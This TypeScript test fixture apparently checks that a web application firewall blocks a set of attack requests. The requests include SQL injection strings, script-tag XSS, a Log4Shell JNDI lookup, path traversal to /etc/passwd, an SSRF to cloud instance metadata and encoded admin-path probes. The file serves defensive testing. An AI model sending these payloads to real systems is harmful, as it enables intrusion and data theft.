import { type WebRequest, webForm, webRequest } from '../../support/waf/web-request.ts';

export type Attack = {
  readonly says: string;
  readonly request: WebRequest;
  /** The rule of the edge that blocks it. */
  readonly by: string;
};

const attack = (says: string, request: WebRequest, by: string): Attack => ({ says, request, by });

const html = '<p>Nice</p><script>alert("hello")</script>';
const long = 'x'.repeat(8_200);

/** Paths that look like those let off, and lead elsewhere. */
const disguises = [
  '/backoffice/../login',
  '/backoffice/%2e%2e/login',
  '/backoffice/..%2flogin',
  '/backoffice//login',
  '/backoffice\\..\\login',
  '/backofficex',
  '/Backoffice/products',
  '/webhooks/../checkout/review',
  '/webhooks/stripe/../login',
  '/webhooks/',
  '/x/backoffice/products',
];

export const attacks: readonly Attack[] = [
  attack(
    'a viewer who plays CloudFront',
    webRequest('/cart', { headers: { 'x-origin-secret': 'guess' } }),
    'HeaderOrQuery',
  ),
  attack('a probe for a debugger', webRequest('/?XDEBUG_SESSION_START=phpstorm'), 'HeaderOrQuery'),
  attack(
    'a visitor behind an anonymising proxy',
    webRequest('/login', { source: 'anonymous' }),
    'AnonymousAddresses/AnonymousIPList',
  ),
  attack('a look for /admin', webRequest('/admin/login'), 'AdminPaths/AdminProtection_URIPATH'),
  attack('… percent-encoded', webRequest('/%61dmin'), 'AdminPaths/AdminProtection_URIPATH'),
  attack(
    'a look for a database manager',
    webRequest('/sqlmanager'),
    'AdminPaths/AdminProtection_URIPATH',
  ),
  attack(
    'Log4Shell in a header',
    webRequest('/', { headers: { 'x-api-version': `\${jndi:ldap://example.com/}` } }),
    'KnownBadInputs/Log4JRCE_HEADER',
  ),
  attack(
    'a Java object that runs a command, sent to the back office',
    webRequest('/backoffice/products', { method: 'POST', body: 'a=java.lang.Runtime' }),
    'KnownBadInputs/JavaDeserializationRCE_BODY',
  ),
  attack('PROPFIND', webRequest('/', { method: 'PROPFIND' }), 'KnownBadInputs/PROPFIND_METHOD'),
  attack('a file of the system', webRequest('/static/..%2f/etc/passwd'), 'Linux/LFI_URIPATH'),
  attack(
    'a file of the system by query',
    webRequest('/products?q=%2Fproc%2Fversion'),
    'Linux/LFI_QUERYARGUMENTS',
  ),
  attack(
    'SQL in a search',
    webRequest(`/products?q=${encodeURIComponent("' OR 1=1 --")}`),
    'SqlInjection/SQLi_QUERYARGUMENTS',
  ),
  attack(
    'SQL in a cookie',
    webRequest('/', { headers: { cookie: "session=' or 1=1" } }),
    'SqlInjection/SQLi_COOKIE',
  ),
  attack('SQL in a form', webForm('/login', { email: "' or 1=1 --", password: 'x' }), 'Bodies'),
  attack(
    'a script in a search',
    webRequest('/products?q=<script>'),
    'Common/CrossSiteScripting_QUERYARGUMENTS',
  ),
  attack('a script in a form', webForm('/register', { name: html }), 'Bodies'),
  attack('a form of more than 8 KB', webForm('/checkout/address', { name: long }), 'Bodies'),
  attack(
    'a path out of the root by form',
    webForm('/cart/items', { file: '../../secret' }),
    'Bodies',
  ),
  attack(
    'the metadata of an instance by form',
    webForm('/account', { photo: 'http://169.254.169.254/latest/' }),
    'Bodies',
  ),
  attack(
    'a script from an address by form',
    webForm('/account', { photo: 'http://203.0.113.7/x' }),
    'Bodies',
  ),
  attack(
    'a query of 3 KB',
    webRequest(`/products?q=${'x'.repeat(3_000)}`),
    'Common/SizeRestrictions_QUERYSTRING',
  ),
  attack(
    'no user agent',
    webRequest('/', { headers: { 'user-agent': '' } }),
    'Common/NoUserAgent_HEADER',
  ),
  ...disguises.map((path) =>
    attack(
      `a script by ${path}`,
      webRequest(path, { method: 'POST', body: `name=${html}` }),
      'Bodies',
    ),
  ),
  ...disguises
    .filter((path) => path.startsWith('/webhooks'))
    .map((path) =>
      attack(
        `a proxy by ${path}`,
        webRequest(path, { source: 'anonymous' }),
        'AnonymousAddresses/AnonymousIPList',
      ),
    ),
];
